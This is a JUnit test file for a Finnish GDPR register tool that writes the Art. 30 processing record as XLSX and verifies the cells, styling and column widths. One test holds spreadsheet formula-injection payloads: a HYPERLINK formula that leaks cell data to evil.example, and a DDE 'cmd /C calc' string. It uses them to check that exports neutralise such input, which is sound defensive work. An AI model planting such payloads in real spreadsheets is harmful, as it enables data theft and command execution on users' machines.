package fi.rekisteri.export.document;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import fi.rekisteri.core.Language;
import fi.rekisteri.core.Register;
import fi.rekisteri.core.compliance.DocumentType;
import fi.rekisteri.export.RegisterFormat;
import fi.rekisteri.export.RegisterReader;
import fi.rekisteri.export.TestRegisters;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.dhatim.fastexcel.reader.Sheet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The Art. 30 record as XLSX, read back with fastexcel-reader: every cell, and never a formula. */
class Art30XlsxTest {

    private static byte[] xlsx(Register register, Language language) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        DocumentFormat.XLSX.write(DocumentSource.of(register, DocumentType.ART_30_RECORD, language), out);
        return out.toByteArray();
    }

    /** Every cell of the only sheet as text, "" for an empty one; fails on a formula or a cell of another type. */
    private static List<List<String>> cells(byte[] xlsx, String sheetName, int columns) throws IOException {
        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
            assertEquals(1, workbook.getSheets().count(), "one sheet");
            Sheet sheet = workbook.getFirstSheet();
            assertEquals(sheetName, sheet.getName());
            List<List<String>> rows = new ArrayList<>();
            for (Row row : sheet.read()) {
                assertEquals(rows.size(), row.getRowNum() - 1, "no row skipped");
                List<String> values = new ArrayList<>();
                for (int c = 0; c < columns; c++) {
                    Cell cell = row.getCell(c);
                    if (cell == null || cell.getType() == CellType.EMPTY) {
                        values.add("");
                        continue;
                    }
                    assertEquals(CellType.STRING, cell.getType(), "cell " + cell.getAddress() + " " + cell);
                    assertEquals(null, cell.getFormula(), "no formula in " + cell.getAddress());
                    values.add(cell.asString());
                }
                assertTrue(row.getCellCount() <= columns, "no cell beyond the record's columns");
                rows.add(values);
            }
            return rows;
        }
    }

    private static void assertReadsBackAsTheTable(Register register, Language language) throws IOException {
        Art30Table table = Art30Table.of(register, language);
        List<List<String>> expected = new ArrayList<>();
        expected.add(table.header());
        expected.addAll(table.rows());
        assertEquals(expected, cells(xlsx(register, language), table.title(), table.header().size()));
    }

    @Test
    void everyCellOfTheTestRegistersReadsBackAsTheRecordHasIt() throws IOException {
        for (Register register : List.of(TestRegisters.maximal(), TestRegisters.alternatives(), TestRegisters.seed())) {
            for (Language language : Language.values()) {
                assertReadsBackAsTheTable(register, language);
            }
        }
    }

    @Test
    void theSeedsRecordHasAHeaderAndARowPerPurpose() throws IOException {
        Register seed = TestRegisters.seed();
        List<List<String>> rows = cells(xlsx(seed, Language.FI), "Seloste käsittelytoimista", 12);
        assertEquals(1 + seed.purposes().size(), rows.size());
        assertEquals(List.of("Rekisteri", "Rekisterinpitäjä", "Rekisterinpitäjän edustaja", "Tietosuojavastaava",
                "Käsittelyn tarkoitus",
                "Oikeusperuste", "Rekisteröityjen ryhmät", "Henkilötietoryhmät", "Vastaanottajat",
                "Siirrot kolmansiin maihin ja suojatoimet", "Säilytysaika", "Turvatoimet"), rows.get(0));
        assertEquals("Mainostakomon internetpalvelujen asiakastietorekisteri", rows.get(1).get(0));
        assertEquals("", rows.get(1).get(2), "the seed has no representative: an empty cell");
        assertEquals("Laskutukseen", rows.get(1).get(4));
        assertEquals("Tietoja ei luovuteta EU:n eikä ETA:n ulkopuolelle.", rows.get(1).get(9));
    }

    /** The same hostile texts as the CSV's test: in XLSX too, a cell that would start a formula is neutralised. */
    @Test
    void aHostileRegistersCellsAreTextNeverFormulas() throws IOException {
        Register register = RegisterReader.create().read("""
                key: hostile
                name: {fi: "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"Klikkaa\\")"}
                controller: {name: "+cmd|' /C calc'!A0", email: a@example.fi}
                representative: {name: "-2+3 GmbH"}
                dataCategories:
                  - {key: contact, name: {fi: "=1+1"}}
                purposes:
                  - {key: billing, name: {fi: "\\t=1+1"}, legalBasis: contract, categories: [contact]}
                  - {key: support, name: {fi: "\\r=1+1"}, legalBasis: contract}
                disclosures:
                  - {key: tax, recipient: {fi: "@Verohallinto"}, categories: [contact]}
                """, "hostile.yaml", RegisterFormat.YAML);
        List<List<String>> rows = cells(xlsx(register, Language.FI), "Seloste käsittelytoimista", 12);
        assertEquals("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Klikkaa\")", rows.get(1).get(0));
        assertEquals("'+cmd|' /C calc'!A0; a@example.fi", rows.get(1).get(1));
        assertEquals("'-2+3 GmbH", rows.get(1).get(2), "the representative's cell too");
        assertEquals("'\t=1+1", rows.get(1).get(4));
        assertEquals("'=1+1", rows.get(1).get(7));
        assertEquals("'@Verohallinto", rows.get(1).get(8));
        assertEquals("'\r=1+1", rows.get(2).get(4), "a carriage return survives XML");
        assertReadsBackAsTheTable(register, Language.FI);
    }

    @TempDir
    Path dir;

    private String part(byte[] xlsx, String name) throws IOException {
        // ZipFile rather than ZipInputStream, which cannot read a stored entry with a data descriptor.
        Path file = Files.write(dir.resolve("record.xlsx"), xlsx);
        try (ZipFile zip = new ZipFile(file.toFile())) {
            ZipEntry entry = zip.getEntry(name);
            assertNotEquals(null, entry, "no " + name);
            try (InputStream in = zip.getInputStream(entry)) {
                return new String(in.readAllBytes(), StandardCharsets.UTF_8);
            }
        }
    }

    @Test
    void theHeaderIsFrozenStyledAndFilterableAndEveryCellWraps() throws IOException {
        byte[] xlsx = xlsx(TestRegisters.maximal(), Language.EN);
        String sheet = part(xlsx, "xl/worksheets/sheet1.xml");
        assertTrue(sheet.contains("ySplit=\"1\"") && sheet.contains("state=\"frozen\""), "frozen header");
        assertTrue(sheet.contains("<autoFilter ref=\"A1:L9\">"), "a filter on the header, over every row");
        String styles = part(xlsx, "xl/styles.xml");
        assertTrue(styles.contains("<b/>") || styles.contains("<b val=\"true\"/>"), "a bold font");
        assertTrue(styles.contains("DCE6F1"), "the header's fill");
        assertTrue(styles.contains("wrapText=\"true\"") || styles.contains("wrapText=\"1\""), "wrapped");
        // The header's cells and the rows' cells have styles of their own, every one of them set.
        Matcher cell = Pattern.compile("<c r=\"([A-K])(\\d+)\"( s=\"(\\d+)\")?").matcher(sheet);
        Set<String> headerStyles = new java.util.HashSet<>();
        Set<String> rowStyles = new java.util.HashSet<>();
        int cells = 0;
        while (cell.find()) {
            cells++;
            assertNotEquals(null, cell.group(4), "cell " + cell.group(1) + cell.group(2) + " has a style");
            (cell.group(2).equals("1") ? headerStyles : rowStyles).add(cell.group(4));
        }
        assertEquals(11 * (1 + TestRegisters.maximal().purposes().size()), cells, "every cell styled, empty too");
        assertEquals(1, headerStyles.size());
        assertEquals(1, rowStyles.size());
        assertNotEquals(headerStyles, rowStyles);
    }

    @Test
    void columnsAreAsWideAsTheirLongestLineWithinBounds() {
        Art30Table table = new Art30Table("t", List.of("Short", "Third-country transfers", "Long", "Lines"),
                List.of(List.of("a", "", "x".repeat(100), "y".repeat(20) + "\n" + "z".repeat(5)),
                        List.of("b", "", "", "")));
        assertEquals(12, Art30Xlsx.width(table, 0), "short values: the narrowest width");
        assertEquals("Third-country".length() + 3, Art30Xlsx.width(table, 1), "the header's longest word, as it wraps");
        assertEquals(60, Art30Xlsx.width(table, 2), "a long value: the widest, and it wraps");
        assertEquals(20 + 3, Art30Xlsx.width(table, 3), "each line of a cell counts apart");
    }

    @Test
    void xlsxIsBinaryAndWritesOnlyTheArt30Record() {
        assertEquals(Set.of(DocumentType.ART_30_RECORD), DocumentFormat.XLSX.documentTypes());
        assertEquals(false, DocumentFormat.XLSX.isText());
        assertEquals(DocumentFormat.FindingsPlacement.BESIDE, DocumentFormat.XLSX.findings());
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
                () -> DocumentFormat.XLSX.write(DocumentSource.of(TestRegisters.seed(), DocumentType.ART_13_NOTICE,
                        Language.FI), new ByteArrayOutputStream()));
        assertEquals("xlsx writes art30 only, not art13", e.getMessage());
    }

    @Test
    void theCallersStreamStaysOpen() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream() {
            @Override
            public void close() {
                throw new AssertionError("closed the caller's stream");
            }
        };
        DocumentFormat.XLSX.write(DocumentSource.of(TestRegisters.seed(), DocumentType.ART_30_RECORD, Language.FI),
                out);
        assertTrue(ReadableWorkbook.isOOXMLZipHeader(out.toByteArray()));
    }
}
